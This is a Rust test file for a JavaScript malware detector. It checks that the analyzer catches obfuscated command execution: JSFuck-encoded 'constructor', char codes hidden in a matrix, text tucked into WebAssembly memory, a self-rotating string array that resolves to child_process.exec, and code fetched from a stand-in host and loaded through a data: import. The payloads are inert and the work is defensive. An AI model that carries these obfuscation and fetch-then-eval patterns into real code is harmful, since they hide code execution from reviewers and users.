//! Code that writes its names in signs, and hides its text in numbers or in a module.

mod support;

use foretaste_javascript::observe;
use foretaste_model::facts::FileFacts;
use foretaste_model::{Capability, Limits};

use support::runs;

fn facts(code: &str) -> FileFacts {
    observe("a.js", code, &Limits::default())
}

/// `constructor` in signs alone.
const CONSTRUCTOR: &str = "([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]\
    +(!![]+[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]])[+!+[]+[+[]]]\
    +([][[]]+[])[+!+[]]+(![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[+!+[]]+([][[]]+[])[+[]]\
    +([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]\
    +(!![]+[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]])[+!+[]+[+[]]]+(!![]+[])[+!+[]]";

#[test]
fn names_in_signs_are_read() {
    let code = "require('child_process').exec('id; echo inert')";
    for program in [
        format!("const K = {CONSTRUCTOR}; const F = (async () => {{}})[K]; F(\"{code}\")();"),
        format!("(() => 0)[{CONSTRUCTOR}](\"{code}\")();"),
    ] {
        let facts = facts(&program);
        assert!(runs(&facts), "{program}: {:?}", facts.uses);
    }
    // sums of lists and words that write no names
    let honest = facts(
        "const a = [] + 'x'; const n = +[] + 1; if (!![].length + 2) {} const s = ([1, 2] + '').length;",
    );
    assert!(honest.layers.is_empty());
}

#[test]
fn numbers_in_a_matrix_are_decoded() {
    let code: Vec<u32> = "require('child_process').exec('id; echo inert')"
        .chars()
        .rev()
        .map(|c| u32::from(c) + 3)
        .collect();
    let rows: Vec<String> = code.chunks(7).map(|row| format!("{row:?}")).collect();
    let rows = rows.join(",");
    for read in [
        "const flat = rows.flat().reverse().map((n) => n - 3); new Function('require', String.fromCharCode.apply(null, flat))(require);",
        "const text = String.fromCharCode(...rows.flat(1).map((n) => n - 3).reverse()); eval(text);",
    ] {
        let facts = facts(&format!("const rows = [{rows}]; {read}"));
        assert!(runs(&facts), "{read}: {:?}", facts.layers);
    }
}

#[test]
fn text_in_the_memory_of_a_module_is_hidden() {
    let module = "AGFzbQEAAAABBAFgAAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f";
    let chain = |code: &str| {
        let facts = facts(code);
        facts.flows.iter().any(|f| {
            f.steps.first().is_some_and(|s| &*s.api == "Buffer.from")
                && f.steps
                    .last()
                    .is_some_and(|s| matches!(&*s.api, "Function" | "eval"))
        })
    };
    for code in [
        format!(
            "const m = new WebAssembly.Module(Buffer.from('{module}', 'base64')); const {{ memory, at, size }} = new WebAssembly.Instance(m).exports;
             const text = new Uint8Array(memory.buffer, at(), size()).reduce((s, c) => s + String.fromCharCode(c ^ 7), ''); new Function('require', text)(require);"
        ),
        format!(
            "WebAssembly.instantiate(Buffer.from('{module}', 'base64')).then(({{ instance }}) => eval(new TextDecoder().decode(new Uint8Array(instance.exports.memory.buffer, 0, 99))));"
        ),
    ] {
        assert!(chain(&code), "{code}: {:?}", facts(&code).flows);
    }
    // a module that computes
    let honest = facts(&format!(
        "const fs = require('fs'); const m = new WebAssembly.Instance(new WebAssembly.Module(Buffer.from('{module}', 'base64')));
         exports.sum = (a, b) => m.exports.add(a, b); fs.writeFileSync('sum.txt', String(m.exports.add(1, 2)));"
    ));
    let ends = |f: &foretaste_model::facts::Flow| f.steps.last().map(|s| s.api.to_string());
    let ends: Vec<_> = honest.flows.iter().filter_map(ends).collect();
    assert!(
        ends.iter().all(|e| e.starts_with("WebAssembly")),
        "{ends:?}"
    );
}

#[test]
fn lists_that_replace_their_own_function_are_looked_up() {
    let program = |also: &str| {
        format!(
            "(function (get, n) {{ const all = get(); while (--n > 0) all.push(all.shift()); }})(list, 2);
             function list() {{ const all = ['=42b', '==wYlhXZ', '==wczV2YvJHcfRGbph2Y']; list = function () {{ return all; }}; return list(); }}
             function word(i) {{ return Buffer['from'](list()[i - 16].split('').reverse().join(''), 'base64').toString(); }}
             {also}
             (function () {{ require(word(17))[word(16)]('id'); }})();"
        )
    };
    let starts = |facts: &FileFacts| facts.uses.iter().any(|u| &*u.api == "child_process.exec");
    let found = facts(&program(""));
    assert!(starts(&found), "{:?}", found.uses);
    // somebody else may put another list there
    let other = facts(&program("exports.reset = () => { list = () => []; };"));
    assert!(!starts(&other), "{:?}", other.uses);
}

#[test]
fn a_module_in_its_own_address_is_text_that_is_evaluated() {
    let sink = |code: &str| {
        let facts = facts(code);
        let last = facts.flows.first().and_then(|f| f.steps.last());
        last.map(|s| s.capability)
    };
    assert_eq!(
        sink(
            "fetch('https://c.invalid/p').then((r) => r.json()).then((j) => import('data:text/javascript;base64,' + j.text));"
        ),
        Some(Capability::CodeEval)
    );
    assert_eq!(
        sink(
            "fetch('https://c.invalid/p').then((r) => r.json()).then((j) => import('./locales/' + j.name));"
        ),
        Some(Capability::CodeImport)
    );
}
